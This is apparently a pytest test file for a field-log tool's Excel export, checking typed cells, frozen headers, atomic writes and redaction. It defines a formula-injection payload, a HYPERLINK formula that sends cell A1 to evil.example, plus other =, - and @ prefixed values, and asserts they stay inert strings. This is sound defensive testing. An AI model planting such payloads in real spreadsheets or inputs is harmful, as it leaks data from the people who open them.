"""``fieldlog export --out FILE.xlsx``: a workbook that stays typed, read back with openpyxl.

Ids and phones are text cells (leading zeros, ``+1 555`` without the CSV guard's apostrophe),
times are date cells holding the local time the CSV writes (its offset dropped), days are
dates, a formula-looking text stays a string, the header is frozen and filtered, ``all`` is
one workbook with a sheet per table; the same rows and values as the CSV export, written
whole or not at all."""

from __future__ import annotations

import csv
import errno
import io
import os
import stat
import zipfile
from contextlib import contextmanager
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from fieldlog.db.store import Store
from fieldlog.errors import FieldlogError
from fieldlog.export import files, split, xlsx, xlsx_tables
from fieldlog.export.columns import COLUMNS, TABLES

HYPER = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'


@pytest.fixture
def log(cli):
    """A log whose cells a spreadsheet would mangle from a CSV."""
    cli("org", "add", "Zero Lead", "--phone", "0123555", "--hood", "007")
    cli("org", "add", "Spaced", "--phone", "0123 555", "--kind", "nonprofit")
    cli("org", "add", "Café Nuñez", "--phone", "+1 555", "--notes", HYPER)
    cli(
        "add", HYPER, "--name", "0042", "--at", "2026-03-08 03:30", "--follow-up", "2026-12-24",
        "--hood", "Eastside", "--org", "Zero Lead", "--tag", "night", "--tag", "youth",
        "--concern", "noise:=1+1 loud music", "--refer", "County Housing Office:-needs a place",
        "--location", "@the corner",
    )  # fmt: skip
    cli("add", "Second visit", "--at", "2026-07-04 12:00", "--hood", "Westview", "--name", "Ana")
    cli("problem", "add", "=HYPERLINK at the corner", "--hood", "Eastside", "--category",
        "noise", "--partner", "Zero Lead")  # fmt: skip
    cli("problem", "log", "HYPERLINK", "--", "-2 calls this week")
    return cli


def _csv(cli, *args: str) -> tuple[list[str], list[list[str]]]:
    """The CSV export of the same table (``--raw``: the stored text, no guard)."""
    rows = list(csv.reader(io.StringIO(cli("export", *args, "--raw").stdout)))
    return rows[0], rows[1:]


def _sheet(ws) -> tuple[list[str], list[list[object]]]:
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    return rows[0], rows[1:]


def _as_csv_text(column: str, value: object) -> str:
    """An xlsx cell's value as the CSV writes it, for the comparison (times: local, the
    offset dropped, as a workbook holds them)."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        if column in xlsx_tables.DAY_FIELDS:
            return value.date().isoformat()
        ms = column in ("created_at", "updated_at")
        return value.isoformat(timespec="milliseconds" if ms else "seconds")
    assert isinstance(value, str), (column, value)
    return value


def _csv_local(column: str, text: str) -> str:
    """A CSV time cell without its offset (``2026-03-08T03:30:00-05:00`` -> ``...03:30:00``)."""
    if text and column in xlsx_tables.TIME_COLUMNS:
        return (
            datetime.fromisoformat(text)
            .replace(tzinfo=None)
            .isoformat(timespec="milliseconds" if "." in text else "seconds")
        )
    return text


# ---------------------------------------------------------------- cell types and values
def test_ids_and_phones_are_text_cells_without_apostrophes(log, tmp_path):
    out = tmp_path / "orgs.xlsx"
    log("export", "organizations", "--out", str(out))
    ws = openpyxl.load_workbook(out)["organizations"]
    header, rows = _sheet(ws)
    assert header == list(COLUMNS["organizations"])
    by_name = {r[header.index("name")]: r for r in rows}
    phones = {n: r[header.index("phone")] for n, r in by_name.items()}
    assert phones == {"Zero Lead": "0123555", "Spaced": "0123 555", "Café Nuñez": "+1 555"}
    assert by_name["Zero Lead"][header.index("neighborhood")] == "007"
    assert by_name["Café Nuñez"][header.index("notes")] == HYPER
    dated = xlsx_tables.DAY_FIELDS | xlsx_tables.TIME_COLUMNS
    for row in ws.iter_rows(min_row=2):
        for name, cell in zip(header, row, strict=True):
            if cell.value is not None and name not in dated:
                assert cell.data_type == "s" and cell.number_format == "@", cell
            elif cell.value is not None:
                assert cell.is_date, cell
    ids = [c for c in ws["A"][1:]]
    assert all(c.data_type == "s" and len(c.value) == 32 for c in ids)
    assert any(c.value.startswith("0") for c in ids)  # time-ordered ids start with 0 today


def test_times_are_local_date_cells_and_days_are_dates(log, tmp_path, store):
    out = tmp_path / "contacts.xlsx"
    log("export", "contacts", "--out", str(out))
    ws = openpyxl.load_workbook(out)["contacts"]
    header, rows = _sheet(ws)
    first = next(r for r in rows if r[header.index("person_name")] == "0042")
    at = ws.cell(row=rows.index(first) + 2, column=header.index("occurred_at") + 1)
    # 03:30 on the day summer time starts in Chicago: stored 08:30Z, local 03:30 (CDT).
    assert at.is_date and at.value == datetime(2026, 3, 8, 3, 30)
    assert at.number_format == xlsx.DATETIME_FORMAT
    follow = ws.cell(row=at.row, column=header.index("follow_up_on") + 1)
    assert follow.is_date and follow.value == datetime(2026, 12, 24)
    assert follow.number_format == xlsx.DATE_FORMAT
    stored = store.scalar("SELECT created_at FROM contacts WHERE person_name = '0042'")
    created = ws.cell(row=at.row, column=header.index("created_at") + 1)
    local = datetime.fromisoformat(stored).astimezone().replace(tzinfo=None)
    assert created.is_date and created.value == local and created.value.microsecond
    assert created.number_format == xlsx.DATETIME_MS_FORMAT
    assert first[header.index("tags")] == "night;youth"
    assert first[header.index("location")] == "@the corner"


def test_odd_stored_values_are_converted_as_the_csv_converts_them(cli, store, tmp_path):
    """Values no fieldlog writes (an old import, a hand-edited file) take the CSV's own SQL
    conversion: the same instant, '' for what is no time; a number in a text column is text."""
    cid = cli.new("add", "Odd one", "--concern", "noise:loud")
    with store.write():
        store.conn.execute(
            "UPDATE contacts SET occurred_at = '2026-11-25 22:11:15Z', created_at = 'garbage', "
            "summary = 42, follow_up_on = 'soon' WHERE id = ?", [cid],
        )  # fmt: skip
        store.conn.execute("UPDATE concerns SET resolved_at = '1850-01-01T00:00:00Z'")
    out = tmp_path / "odd.xlsx"
    cli("export", "all", "--out", str(out))
    wb = openpyxl.load_workbook(out)
    header, (row,) = _sheet(wb["contacts"])
    got = dict(zip(header, row, strict=True))
    assert got["occurred_at"] == datetime(2026, 11, 25, 16, 11, 15)
    assert got["created_at"] is None and got["summary"] == "42" and got["follow_up_on"] == "soon"
    _, csv_rows = _csv(cli, "contacts")
    assert csv_rows[0][header.index("created_at")] == ""
    header, (row,) = _sheet(wb["concerns"])
    # Before 1900 Excel holds no date: the CSV's text of it.
    assert row[header.index("resolved_at")] == "1849-12-31T18:00:00-06:00"


def test_a_formula_looking_text_stays_a_string_and_no_cell_is_a_formula(log, tmp_path):
    out = tmp_path / "all.xlsx"
    log("export", "all", "--out", str(out))
    wb = openpyxl.load_workbook(out)
    summaries = [r[0].value for r in wb["contacts"].iter_rows(min_row=2, min_col=10, max_col=10)]
    assert HYPER in summaries
    cell = next(c for (c,) in wb["contacts"].iter_rows(min_col=10, max_col=10) if c.value == HYPER)
    assert cell.data_type == "s"
    assert "=1+1 loud music" in [r[3] for r in wb["concerns"].iter_rows(values_only=True)]
    assert "-needs a place" in [r[6] for r in wb["referrals"].iter_rows(values_only=True)]
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(TABLES)
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
            assert "<hyperlink" not in xml
        assert "xl/calcChain.xml" not in z.namelist()


def test_the_header_is_frozen_and_filtered_and_widths_are_set(log, tmp_path):
    out = tmp_path / "c.xlsx"
    log("export", "contacts", "--out", str(out))
    ws = openpyxl.load_workbook(out)["contacts"]
    n = len(COLUMNS["contacts"])
    last = openpyxl.utils.get_column_letter(n)
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{last}3"
    assert all(c.font.b for c in ws[1])
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    assert widths["A"] >= 32  # a whole id shows
    assert all(6 <= w <= xlsx.MAX_WIDTH + 1 for w in widths.values())


def test_all_is_one_workbook_with_a_sheet_per_table_equal_to_the_csv(log, tmp_path):
    out = tmp_path / "all.xlsx"
    got = log.json("export", "all", "--out", str(out))
    assert got["table"] == "all" and got["out"] == str(out)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == list(TABLES)
    assert got["rows"] == {t: wb[t].max_row - 1 for t in TABLES}
    for table in TABLES:
        header, rows = _sheet(wb[table])
        csv_header, csv_rows = _csv(log, table)
        assert header == csv_header == list(COLUMNS[table])
        as_text = [[_as_csv_text(c, v) for c, v in zip(header, r, strict=True)] for r in rows]
        local = [[_csv_local(c, v) for c, v in zip(header, r, strict=True)] for r in csv_rows]
        assert as_text == local, table
        assert rows, table


def test_filters_and_redaction_are_the_csv_exports(log, tmp_path):
    out = tmp_path / "east.xlsx"
    got = log.json("export", "flat", "--hood", "Eastside", "--out", str(out))
    header, rows = _sheet(openpyxl.load_workbook(out)["flat"])
    _, csv_rows = _csv(log, "flat", "--hood", "Eastside")
    assert got["rows"] == len(rows) == len(csv_rows) == 2
    assert {r[header.index("neighborhood")] for r in rows} == {"Eastside"}
    red = tmp_path / "red.xlsx"
    log("export", "all", "--redact", "--out", str(red))
    wb = openpyxl.load_workbook(red)
    orgs_h, orgs = _sheet(wb["organizations"])
    assert {r[orgs_h.index("phone")] for r in orgs} == {None}
    c_h, contacts = _sheet(wb["contacts"])
    names = {r[c_h.index("person_name")] for r in contacts}
    assert all(n.startswith("Person-") for n in names) and "0042" not in str(contacts)
    # One key for the whole workbook: a concern's contact_id is its contact's (re-keyed) id.
    k_h, concerns = _sheet(wb["concerns"])
    assert {r[k_h.index("contact_id")] for r in concerns} <= {r[0] for r in contacts}
    plain = str(_csv(log, "contacts"))
    assert all(len(r[0]) == 32 and r[0] not in plain for r in contacts)


def test_format_xlsx_and_the_refused_combinations(log, tmp_path):
    out = tmp_path / "by-flag.xlsx"
    log("export", "concerns", "--format", "xlsx", "--out", str(out))
    assert openpyxl.load_workbook(out).sheetnames == ["concerns"]
    upper = tmp_path / "UPPER.XLSX"
    log("export", "referrals", "--out", str(upper))
    assert zipfile.is_zipfile(upper)
    cases = {
        ("--format", "xlsx"): "give --out FILE.xlsx",
        ("--format", "xlsx", "--out", "-"): "give --out FILE.xlsx",
        ("--format", "xlsx", "--out", str(tmp_path / "x.csv")): "--out x.xlsx",
        ("--format", "csv", "--out", str(tmp_path / "x.xlsx")): "name the file .csv",
        ("--format", "ods", "--out", str(tmp_path / "x.ods")): "use csv or xlsx",
        ("--excel", "--out", str(tmp_path / "x.xlsx")): "drop --excel",
        ("--raw", "--out", str(tmp_path / "x.xlsx")): "drop --raw",
        ("--format", "xlsx", "--json"): "give --out FILE.xlsx",
    }
    for args, needle in cases.items():
        r = log("export", "contacts", *args, code=1)
        err = r.stderr.strip()
        assert err.startswith("Error: ") and needle in err and len(err.splitlines()) == 1, args
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("log.db")) == [
        "UPPER.XLSX", "by-flag.xlsx",
    ]  # fmt: skip
    # A bad filter fails before any file is made; so does all into a folder name.
    log("export", "contacts", "--since", "someday", "--out", str(tmp_path / "bad.xlsx"), code=1)
    log("export", "all", "--format", "xlsx", "--out", str(tmp_path / "folder"), code=1)
    assert not (tmp_path / "bad.xlsx").exists() and not (tmp_path / "folder").exists()


def test_remote_reads_the_department_store(log, tmp_path, monkeypatch):
    """``--remote NAME`` goes through the same ``department_or_local`` as the CSV export."""
    from fieldlog.cli import export as cli_export

    other = Store.open(tmp_path / "dept-snapshot.db")
    other.set_officer("Sam Lee")
    seen = []

    @contextmanager
    def fake(ctx, remote, *, quiet=False):
        seen.append((remote, quiet))
        yield other

    with other.write() as tx:
        tx.insert("organizations", {"name": "Only In The Department", "phone": "0999"})
    monkeypatch.setattr(cli_export, "department_or_local", fake)
    out = tmp_path / "dept.xlsx"
    log("export", "organizations", "--remote", "dept", "--out", str(out), "--json")
    other.close()
    assert seen == [("dept", True)]
    _, rows = _sheet(openpyxl.load_workbook(out)["organizations"])
    assert [(r[1], r[4]) for r in rows] == [("Only In The Department", "0999")]


# ---------------------------------------------------------------- files: whole or nothing
def _names(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith("log.db"))


def test_force_rules_mode_and_a_full_disk_leave_nothing(log, tmp_path, monkeypatch):
    out = tmp_path / "c.xlsx"
    log("export", "contacts", "--out", str(out))
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600 or os.name != "posix"
    r = log("export", "contacts", "--out", str(out), code=1)
    assert "already exists: choose another name, or add --force" in r.stderr
    before = out.read_bytes()
    log("export", "all", "--out", str(out), "--force")
    assert out.read_bytes() != before and len(openpyxl.load_workbook(out).sheetnames) == len(TABLES)
    out.unlink()

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", full)
    for table in ("contacts", "all"):
        r = log("export", table, "--out", str(out), code=1)
        assert r.stderr.strip() == f"Error: Cannot write {out}: No space left on device."
        assert _names(tmp_path) == []


def test_an_error_midway_leaves_no_file_and_no_temporary_file(tmp_path):
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    out = tmp_path / "w.xlsx"

    def rows():
        for i in range(500):
            if i == 300:
                # The rows written so far went to the worksheet's temporary file (constant
                # memory), owner-only in a private folder.
                (folder,) = scratch.iterdir()
                assert folder.name.startswith(split.SCRATCH_PREFIX + str(os.getpid()))
                assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
                parts = list(folder.iterdir())
                assert parts and all(stat.S_IMODE(os.stat(p).st_mode) == 0o600 for p in parts)
                assert sum(p.stat().st_size for p in parts) > 0
                raise KeyboardInterrupt
            yield (f"{i:05d}", "x" * 50)

    spec = xlsx.SheetSpec("t", [xlsx.Column("id"), xlsx.Column("text")], rows())
    with pytest.raises(KeyboardInterrupt):
        xlsx.write_workbook(out, [spec], tmpdir=str(scratch))
    assert _names(tmp_path) == ["scratch"] and list(scratch.iterdir()) == []


def test_a_killed_workbooks_scratch_folder_is_removed_by_the_next(tmp_path):
    dead = tmp_path / f"{split.SCRATCH_PREFIX}{(1 << 22) + 3}-abc"
    dead.mkdir()
    (dead / "tmpabc").write_text("<row>half a sheet</row>")
    spec = xlsx.SheetSpec("t", [xlsx.Column("id")], [("0001",)])
    assert xlsx.write_workbook(tmp_path / "w.xlsx", [spec], tmpdir=str(tmp_path)) == 1
    assert _names(tmp_path) == ["w.xlsx"]


def test_too_many_rows_for_excel_is_one_line_and_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx, "EXCEL_MAX_ROWS", 4)
    spec = xlsx.SheetSpec("t", [xlsx.Column("n", "int")], ([i] for i in range(10)))
    with pytest.raises(FieldlogError, match="more than 3 rows, Excel's limit"):
        xlsx.write_workbook(tmp_path / "big.xlsx", [spec])
    assert _names(tmp_path) == []


def test_a_table_too_big_for_a_sheet_is_refused_before_any_row(log, tmp_path, monkeypatch):
    log("add", "A third contact")
    monkeypatch.setattr(xlsx, "EXCEL_MAX_ROWS", 3)  # the header and 2 data rows
    monkeypatch.setattr(xlsx_tables, "table_rows", lambda *a, **k: pytest.fail("rows were read"))
    log("export", "contacts", "--out", str(tmp_path / "c.xlsx"), code=1)
    r = log("export", "all", "--out", str(tmp_path / "a.xlsx"), code=1)
    assert r.stderr.strip() == (
        "Error: The sheet contacts would need more than 2 rows, Excel's limit: export it as "
        "CSV, or narrow it with --since/--until."
    )
    assert _names(tmp_path) == []


def test_progress_counts_the_rows(log, tmp_path, store):
    seen: list[int] = []
    n = xlsx_tables.write_table_xlsx(store, "contacts", tmp_path / "p.xlsx", progress=seen.append)
    assert n == 2 and seen and seen[-1] == 2


def test_an_encrypted_logs_rows_never_go_to_the_disks_temp_folder(monkeypatch):
    class Fake:
        encrypted = True

        def __init__(self, ram):
            self.ram = ram

        def scratch_dir(self):
            return self.ram

    assert xlsx.scratch_for(Fake("/dev/shm")) == ("/dev/shm", False)  # type: ignore[arg-type]
    assert xlsx.scratch_for(Fake(None)) == (None, True)  # type: ignore[arg-type]


# ---------------------------------------------------------------- the API (referral sheets)
def test_write_workbook_kinds_choices_editable_and_properties(tmp_path):
    out = tmp_path / "sheet.xlsx"
    cols = [
        xlsx.Column("id"),
        xlsx.Column("made_at", "datetime"),
        xlsx.Column("follow_up_on", "date"),
        xlsx.Column("count", "int"),
        xlsx.Column("share", "number"),
        xlsx.Column("urgent", "bool"),
        xlsx.Column("status", choices=("made", "accepted", "declined"), editable=True),
        xlsx.Column("outcome", editable=True, width=40),
        xlsx.Column("service", choices=tuple(f"service-number-{i}" for i in range(30))),
    ]
    rows = [
        ("0012", "2026-11-25T22:11:15.975Z", "2026-12-01", 3, 0.5, True, "made", None, None),
        ("0013", "not a time", "31/12/2026", "7", "x", "yes", None, "done", "service-number-3"),
    ]
    n = xlsx.write_workbook(
        out, [xlsx.SheetSpec("referrals", cols, rows)],
        properties={"title": "Open referrals", "fieldlog_sheet": "referrals/1"},
    )  # fmt: skip
    assert n == 2
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["referrals", "_choices"] and wb["_choices"].sheet_state == "hidden"
    assert wb.properties.title == "Open referrals"
    assert wb.custom_doc_props["fieldlog_sheet"].value == "referrals/1"
    ws = wb["referrals"]
    assert [c.value for c in ws[2]][:6] == [
        "0012", datetime(2026, 11, 25, 16, 11, 15, 975000), datetime(2026, 12, 1), 3, 0.5, True,
    ]  # fmt: skip
    # Values that do not fit their kind are their text, never dropped.
    assert [c.value for c in ws[3]][:6] == ["0013", "not a time", "31/12/2026", 7, "x", "yes"]
    assert ws.protection.sheet and ws.protection.autoFilter is False  # filtering allowed
    status, outcome = ws["G3"], ws["H2"]
    assert not status.protection.locked and not outcome.protection.locked  # empty, to fill in
    assert ws["A2"].protection.locked and status.fill.fgColor.rgb.endswith("FFF2CC")
    assert ws.column_dimensions["H"].width == pytest.approx(40, abs=1)
    lists = {str(v.sqref): v for v in ws.data_validations.dataValidation}
    assert lists["G2:G3"].formula1 == '"made,accepted,declined"'
    assert lists["I2:I3"].formula1 == "_choices!$A$1:$A$30"
    assert date(2026, 12, 1) == ws["C2"].value.date()


def test_the_workbook_is_not_imported_on_the_quick_path():
    import subprocess
    import sys

    code = "import fieldlog.cli.entry, fieldlog.export; import sys; print(' '.join(sys.modules))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    loaded = set(out.stdout.split())
    assert (
        not {"xlsxwriter", "openpyxl", "fieldlog.export.xlsx", "fieldlog.export.xlsx_tables"}
        & loaded
    )
